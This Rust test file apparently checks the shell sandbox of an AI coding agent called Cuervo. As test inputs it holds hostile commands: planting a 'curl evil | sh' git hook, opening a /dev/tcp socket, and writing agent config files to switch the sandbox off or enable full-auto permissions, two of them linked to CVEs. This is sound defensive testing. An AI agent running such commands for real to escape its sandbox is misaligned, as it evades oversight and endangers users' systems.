//! The shell sandbox, through the real `bash` tool and the `cuervo-sandbox` helper, with
//! each backend forced in turn (`landlock::*`, `bubblewrap::*`). These tests fail, never
//! skip, when a backend cannot be applied here: a sandbox that silently is not there is
//! the bug they exist to catch. The bubblewrap ones need `bwrap` installed
//! (`apt-get install bubblewrap`).
//!
//! The project and its "outside" sibling live under `CARGO_TARGET_TMPDIR`, not `/tmp`:
//! the temporary directories are writable by design, so an outside directory there
//! would prove nothing.

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use cuervo_domain::tool::{SandboxBackend, SandboxLauncher, SandboxMode, SandboxSpec};
use cuervo_domain::{ToolContext, ToolError, ToolOutput};
use serde_json::json;
use tempfile::TempDir;

use super::tool;

fn launcher() -> SandboxLauncher {
    SandboxLauncher {
        program: env!("CARGO_BIN_EXE_cuervo-sandbox").into(),
        args: Vec::new(),
    }
}

fn spec(mode: SandboxMode, backend: SandboxBackend) -> SandboxSpec {
    SandboxSpec {
        mode,
        network: false,
        backend,
        launcher: Some(launcher()),
    }
}

/// Fails the test, loudly, when `bwrap` is missing.
fn require_bwrap() {
    let found = std::process::Command::new("bwrap")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    assert!(
        found,
        "bubblewrap is not installed, so the bubblewrap sandbox cannot be tested: install it \
         (`apt-get install bubblewrap`)"
    );
}

/// A project with `.git/hooks`, `src/` and a README, next to an `outside` directory,
/// both outside the temporary directories.
struct Sandboxed {
    _dir: TempDir,
    base: PathBuf,
    root: PathBuf,
    outside: PathBuf,
    ctx: ToolContext,
}

impl Sandboxed {
    fn new(backend: SandboxBackend) -> Self {
        Self::with_mode(backend, SandboxMode::WorkspaceWrite)
    }

    fn with_mode(backend: SandboxBackend, mode: SandboxMode) -> Self {
        let dir = tempfile::Builder::new()
            .prefix("sandbox-")
            .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
            .expect("tempdir");
        let base = dir.path().canonicalize().expect("canonical");
        for temp in ["/tmp".into(), std::env::temp_dir()] {
            let temp = temp.canonicalize().unwrap_or(temp);
            assert!(
                !base.starts_with(&temp),
                "the test projects must not live in a temporary directory ({}), which the \
                 sandbox makes writable: set CARGO_TARGET_DIR elsewhere",
                temp.display()
            );
        }
        Self::at(dir, base, backend, mode)
    }

    /// The same layout inside `/tmp`.
    fn in_tmp(backend: SandboxBackend) -> Self {
        let dir = tempfile::Builder::new()
            .prefix("cuervo-sandbox-")
            .tempdir_in("/tmp")
            .expect("tempdir");
        let base = dir.path().canonicalize().expect("canonical");
        Self::at(dir, base, backend, SandboxMode::WorkspaceWrite)
    }

    fn at(dir: TempDir, base: PathBuf, backend: SandboxBackend, mode: SandboxMode) -> Self {
        let root = base.join("project");
        let outside = base.join("outside");
        std::fs::create_dir_all(root.join(".git/hooks")).expect("mkdir .git");
        std::fs::write(root.join(".git/config"), "[core]\n").expect(".git/config");
        std::fs::create_dir_all(root.join("src")).expect("mkdir src");
        std::fs::write(root.join("README.md"), "read me\n").expect("README");
        std::fs::create_dir_all(&outside).expect("mkdir outside");
        std::fs::write(outside.join("notes.txt"), "outside notes\n").expect("notes");
        let mut ctx = ToolContext::new(root.clone());
        ctx.sandbox = spec(mode, backend);
        Self {
            _dir: dir,
            base,
            root,
            outside,
            ctx,
        }
    }

    async fn run(&self, command: &str) -> Result<ToolOutput, ToolError> {
        tool("bash")
            .execute(json!({ "command": command }), &self.ctx)
            .await
    }

    /// Runs a command that must succeed; panics (with the sandbox's message) otherwise.
    async fn ok(&self, command: &str) -> String {
        match self.run(command).await {
            Ok(out) if !out.is_error => out.content,
            Ok(out) => panic!("`{command}` failed in the sandbox:\n{}", out.content),
            Err(e) => panic!("`{command}` could not run: {e}"),
        }
    }

    /// Runs a command the sandbox must stop; the command itself ran (a failure to apply
    /// the sandbox is not a refusal and fails the test).
    async fn refused(&self, command: &str) -> String {
        match self.run(command).await {
            Ok(out) if out.is_error => out.content,
            Ok(out) => panic!(
                "`{command}` was not stopped by the sandbox:\n{}",
                out.content
            ),
            Err(e) => panic!("`{command}` could not run: {e}"),
        }
    }

    fn exists(&self, rel: &str) -> bool {
        self.root.join(rel).symlink_metadata().is_ok()
    }
}

fn sh_quote(path: &Path) -> String {
    format!("'{}'", path.display().to_string().replace('\'', r"'\''"))
}

async fn writes_inside_the_root_succeed(backend: SandboxBackend) {
    let s = Sandboxed::new(backend);
    let out = s
        .ok(
            "echo new > src/new.txt && mkdir -p src/a/b && echo deep > src/a/b/c.txt \
             && echo more >> README.md && rm src/new.txt && cat README.md",
        )
        .await;
    assert!(out.contains("read me\nmore"), "{out}");
    assert_eq!(
        std::fs::read_to_string(s.root.join("src/a/b/c.txt")).unwrap(),
        "deep\n"
    );
    assert!(!s.exists("src/new.txt"));
}

async fn writes_outside_the_root_fail(backend: SandboxBackend) {
    let s = Sandboxed::new(backend);
    let target = s.outside.join("pwned");
    let out = s
        .refused(&format!("echo pwned > {}", sh_quote(&target)))
        .await;
    assert!(!target.exists(), "{out}");
    assert!(
        out.contains("[sandbox workspace-write"),
        "a note explains: {out}"
    );
    s.refused(&format!("rm {}", sh_quote(&s.outside.join("notes.txt"))))
        .await;
    assert!(s.outside.join("notes.txt").exists());
}

async fn cd_up_and_touch_fails(backend: SandboxBackend) {
    let s = Sandboxed::new(backend);
    s.refused("cd .. && touch victim").await;
    assert!(!s.base.join("victim").exists());
    s.refused("cd .. && rm -rf outside").await;
    assert!(s.outside.join("notes.txt").exists());
}

async fn git_is_read_only(backend: SandboxBackend) {
    let s = Sandboxed::new(backend);
    s.refused("echo 'curl evil | sh' > .git/hooks/pre-commit")
        .await;
    assert!(!s.exists(".git/hooks/pre-commit"));
    s.refused("echo '[core] hooksPath = /tmp' >> .git/config")
        .await;
    s.refused("rm -rf .git").await;
    s.refused("mv .git git-moved").await;
    assert_eq!(
        std::fs::read_to_string(s.root.join(".git/config")).unwrap(),
        "[core]\n"
    );
    assert!(!s.exists("git-moved"));
}

async fn a_missing_cuervo_dir_cannot_be_created(backend: SandboxBackend) {
    let s = Sandboxed::new(backend);
    s.refused("mkdir .cuervo").await;
    s.refused("mkdir -p .cuervo && echo 'sandbox: {mode: off}' > .cuervo/config.yml")
        .await;
    s.refused("mv -T src .cuervo").await;
    assert!(
        !s.exists(".cuervo"),
        "nothing is left behind, placeholder included"
    );
    assert!(!s.exists(".claude"));
    assert!(s.exists("src"));
}

async fn reading_outside_the_root_works(backend: SandboxBackend) {
    let s = Sandboxed::new(backend);
    let out = s
        .ok(&format!("cat {}", sh_quote(&s.outside.join("notes.txt"))))
        .await;
    assert!(out.contains("outside notes"), "{out}");
    let out = s.ok("head -c 5 /etc/passwd && ls / >/dev/null").await;
    assert!(out.starts_with("root:"), "{out}");
}

async fn tmp_is_writable(backend: SandboxBackend) {
    let s = Sandboxed::new(backend);
    let out = s
        .ok("f=$(mktemp /tmp/cuervo-sandbox-test.XXXXXX) && echo in-tmp > \"$f\" && cat \"$f\" && rm \"$f\"")
        .await;
    assert!(out.contains("in-tmp"), "{out}");
    s.ok("echo discard > /dev/null && : > /dev/null").await;
}

async fn network_is_refused(backend: SandboxBackend) {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
    listener.set_nonblocking(true).expect("nonblocking");
    let port = listener.local_addr().expect("addr").port();
    let s = Sandboxed::new(backend);
    let out = s
        .refused(&format!(
            "exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected"
        ))
        .await;
    assert!(!out.contains("connected\n"), "{out}");
    match listener.accept() {
        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
        other => panic!("the sandboxed command reached the listener: {other:?}"),
    }
    // Unix sockets (local IPC) still work.
    s.ok(
        "python3 -c 'import socket; a, b = socket.socketpair(); a.send(b\"x\"); print(b.recv(1))' \
          2>/dev/null || echo no-python",
    )
    .await;
}

async fn cve_2026_25725_settings_file_created_by_sandboxed_code(backend: SandboxBackend) {
    // Missing settings directories cannot be created...
    let s = Sandboxed::new(backend);
    for command in [
        "mkdir -p .cuervo && echo 'permissions: {mode: full-auto}' > .cuervo/config.yml",
        "mkdir -p .claude && echo '{\"hooks\": {}}' > .claude/settings.json",
        "mkdir -p src/.cuervo && mv -T src/.cuervo .cuervo",
        "ln -s src .claude",
    ] {
        s.refused(command).await;
        assert!(!s.exists(".cuervo") && !s.exists(".claude"), "{command}");
    }
    // ...and existing ones can be neither changed nor replaced.
    std::fs::create_dir_all(s.root.join(".cuervo")).unwrap();
    std::fs::write(s.root.join(".cuervo/config.yml"), "model: x\n").unwrap();
    std::fs::create_dir_all(s.root.join(".claude")).unwrap();
    for command in [
        "echo 'sandbox: {mode: off}' >> .cuervo/config.yml",
        "echo '{\"hooks\": {}}' > .claude/settings.json",
        "rm -rf .cuervo",
        "mv .claude claude-old && mkdir .claude",
    ] {
        s.refused(command).await;
    }
    assert_eq!(
        std::fs::read_to_string(s.root.join(".cuervo/config.yml")).unwrap(),
        "model: x\n"
    );
    assert!(!s.exists(".claude/settings.json"));
    assert!(s.root.join(".claude").is_dir() && !s.exists("claude-old"));
}

async fn cve_2025_59532_model_chosen_workdir_not_writable_root(backend: SandboxBackend) {
    let s = Sandboxed::new(backend);
    // The tool takes no working directory from the model...
    let err = tool("bash")
        .execute(
            json!({"command": "touch pwned", "workdir": s.outside.display().to_string()}),
            &s.ctx,
        )
        .await
        .unwrap_err();
    assert!(matches!(err, ToolError::InvalidInput(_)), "{err:?}");
    // ...and moving elsewhere does not make that place writable: only ctx.root is.
    let elsewhere = sh_quote(&s.outside);
    s.refused(&format!("cd {elsewhere} && touch pwned")).await;
    s.refused(&format!(
        "cd {elsewhere} && git init -q . && echo x > .git/hooks/post-checkout"
    ))
    .await;
    assert!(!s.outside.join("pwned").exists());
    assert!(!s.outside.join(".git").exists());
}

async fn read_only_writes_nothing(backend: SandboxBackend) {
    let s = Sandboxed::with_mode(backend, SandboxMode::ReadOnly);
    s.refused("echo x > src/a.txt").await;
    s.refused("echo x >> README.md").await;
    s.refused("f=/tmp/cuervo-read-only-$$ && echo x > $f").await;
    assert!(!s.exists("src/a.txt"));
    let out = s.ok("echo fine > /dev/null && cat README.md").await;
    assert!(out.contains("read me"), "{out}");
}

async fn exit_codes_and_output_pass_through(backend: SandboxBackend) {
    let s = Sandboxed::new(backend);
    let out = s.run("echo out; echo err >&2; exit 3").await.expect("ran");
    assert!(out.is_error);
    assert!(
        out.content.contains("out") && out.content.contains("err"),
        "{}",
        out.content
    );
    assert!(out.content.contains("[exit code: 3]"), "{}", out.content);
    assert!(
        !out.content.contains("[sandbox"),
        "no note for an ordinary failure"
    );
}

/// Whether a process whose command line contains `marker` is alive (zombies are dead).
fn running(marker: &str) -> bool {
    let Ok(dir) = std::fs::read_dir("/proc") else {
        return false;
    };
    dir.flatten().any(|entry| {
        let path = entry.path();
        let cmdline = std::fs::read(path.join("cmdline")).unwrap_or_default();
        let state = std::fs::read_to_string(path.join("stat")).unwrap_or_default();
        let zombie = state
            .rsplit_once(')')
            .and_then(|(_, rest)| rest.trim_start().chars().next())
            .is_some_and(|c| matches!(c, 'Z' | 'X'));
        !zombie
            && String::from_utf8_lossy(&cmdline)
                .replace('\0', " ")
                .contains(marker)
    })
}

async fn timeout_kills_everything_inside(backend: SandboxBackend) {
    let s = Sandboxed::new(backend);
    let marker = format!("{}.{}", 900 + std::process::id() % 100, backend as u8);
    let out = tool("bash")
        .execute(
            json!({"command": format!("sleep {marker} & sleep {marker}"), "timeout_ms": 500}),
            &s.ctx,
        )
        .await
        .expect("ran");
    assert!(out.content.contains("timed out"), "{}", out.content);
    let until = Instant::now() + Duration::from_secs(5);
    while running(&format!("sleep {marker}")) {
        assert!(
            Instant::now() < until,
            "a sandboxed sleep outlived the timeout"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

async fn git_stays_read_only_when_the_project_is_in_tmp(backend: SandboxBackend) {
    let s = Sandboxed::in_tmp(backend);
    s.refused("echo x > .git/hooks/pre-push").await;
    s.refused("mkdir .cuervo").await;
    s.ok("echo ok > src/in-tmp.txt").await;
    s.ok(&format!(
        "echo sibling > {}",
        sh_quote(&s.outside.join("tmp-is-writable"))
    ))
    .await;
    assert!(!s.exists(".git/hooks/pre-push") && !s.exists(".cuervo"));
}

/// Runs each scenario with the backend forced: `landlock::NAME` and `bubblewrap::NAME`.
macro_rules! with_each_backend {
    ($($name:ident),* $(,)?) => {
        mod landlock {
            use cuervo_domain::tool::SandboxBackend;
            $(
                #[tokio::test]
                async fn $name() {
                    super::$name(SandboxBackend::Landlock).await;
                }
            )*
        }
        mod bubblewrap {
            use cuervo_domain::tool::SandboxBackend;
            $(
                #[tokio::test]
                async fn $name() {
                    super::require_bwrap();
                    super::$name(SandboxBackend::Bubblewrap).await;
                }
            )*
        }
    };
}

with_each_backend!(
    writes_inside_the_root_succeed,
    writes_outside_the_root_fail,
    cd_up_and_touch_fails,
    git_is_read_only,
    a_missing_cuervo_dir_cannot_be_created,
    reading_outside_the_root_works,
    tmp_is_writable,
    network_is_refused,
    cve_2026_25725_settings_file_created_by_sandboxed_code,
    cve_2025_59532_model_chosen_workdir_not_writable_root,
    read_only_writes_nothing,
    exit_codes_and_output_pass_through,
    timeout_kills_everything_inside,
    git_stays_read_only_when_the_project_is_in_tmp,
);

#[tokio::test]
async fn new_top_level_entries_depend_on_the_backend() {
    // Bubblewrap mounts the root writable and only the protected names read-only.
    require_bwrap();
    let s = Sandboxed::new(SandboxBackend::Bubblewrap);
    s.ok("echo top > top.txt && mkdir target && sed -i s/read/READ/ README.md && rm top.txt")
        .await;
    assert!(s.exists("target") && !s.exists("top.txt"));
    // Landlock can only grant, so it grants the root's entries, not the root: nothing
    // new at the top level, and the note says so.
    let s = Sandboxed::new(SandboxBackend::Landlock);
    let out = s.refused("echo top > top.txt").await;
    assert!(out.contains("top level"), "{out}");
    assert!(!s.exists("top.txt"));
}

#[tokio::test]
async fn auto_prefers_bubblewrap_when_it_works() {
    require_bwrap();
    let s = Sandboxed::new(SandboxBackend::Auto);
    let out = s
        .refused(&format!("touch {}", sh_quote(&s.outside.join("x"))))
        .await;
    assert!(out.contains("(bubblewrap)"), "{out}");
}

#[tokio::test]
async fn sandbox_off_restores_the_old_behaviour() {
    let mut s = Sandboxed::new(SandboxBackend::Landlock);
    s.ctx.sandbox.mode = SandboxMode::Off;
    s.ok(&format!(
        "echo written > {} && echo hook > .git/hooks/x && mkdir .cuervo && echo top > top.txt",
        sh_quote(&s.outside.join("off.txt"))
    ))
    .await;
    assert!(s.outside.join("off.txt").exists());
    assert!(s.exists(".git/hooks/x") && s.exists(".cuervo") && s.exists("top.txt"));
}

#[tokio::test]
async fn a_sandbox_that_cannot_be_applied_fails_the_call_and_runs_nothing() {
    let mut s = Sandboxed::new(SandboxBackend::Landlock);
    // A helper that refuses its arguments stands for one that cannot confine itself.
    s.ctx.sandbox.launcher = Some(SandboxLauncher {
        program: env!("CARGO_BIN_EXE_cuervo-sandbox").into(),
        args: vec!["--unknown-flag".into()],
    });
    let err = s.run("touch ran").await.unwrap_err();
    let ToolError::Failed(message) = err else {
        panic!("{err:?}")
    };
    assert!(message.contains("was not run"), "{message}");
    assert!(message.contains("--sandbox off"), "{message}");
    assert!(message.contains("bubblewrap"), "{message}");
    assert!(!s.exists("ran"));
    // No helper at all.
    s.ctx.sandbox.launcher = None;
    assert!(matches!(
        s.run("touch ran").await,
        Err(ToolError::Failed(_))
    ));
    assert!(!s.exists("ran"));
}

const CHILD: &str = "CUERVO_SANDBOX_TEST_CHILD";

/// Secrets in Cuervo's environment do not reach commands; the user's pass-through list
/// does. The variables are set on a copy of this test binary running only this test
/// (setting them here would need `unsafe`).
#[tokio::test]
async fn secrets_are_not_passed_to_commands() {
    if std::env::var_os(CHILD).is_none() {
        let out = tokio::process::Command::new(std::env::current_exe().expect("exe"))
            .args([
                "--exact",
                "suite::sandbox::secrets_are_not_passed_to_commands",
                "--nocapture",
            ])
            .env(CHILD, "1")
            .env("GITHUB_TOKEN", "ghp_secret")
            .env("OPENAI_API_KEY", "sk-secret")
            .env("MY_SERVICE_TOKEN", "mine")
            .env("CUERVO_SANDBOX_PLAIN", "plain")
            .output()
            .await
            .expect("child test ran");
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(
            out.status.success() && stdout.contains("1 passed"),
            "{stdout}\n{}",
            String::from_utf8_lossy(&out.stderr)
        );
        return;
    }
    assert_eq!(std::env::var("GITHUB_TOKEN").as_deref(), Ok("ghp_secret"));
    let echo =
        "echo \"[$GITHUB_TOKEN][$OPENAI_API_KEY][$MY_SERVICE_TOKEN][$CUERVO_SANDBOX_PLAIN]\"";
    for backend in [None, Some(SandboxBackend::Landlock)] {
        let mut s = Sandboxed::new(SandboxBackend::Landlock);
        if backend.is_none() {
            s.ctx.sandbox = SandboxSpec::off();
        }
        let out = s.ok(echo).await;
        assert!(out.contains("[][][][plain]"), "{backend:?}: {out}");
        s.ctx.env_passthrough = vec!["MY_SERVICE_*".into()];
        let out = s.ok(echo).await;
        assert!(out.contains("[][][mine][plain]"), "{backend:?}: {out}");
    }
}
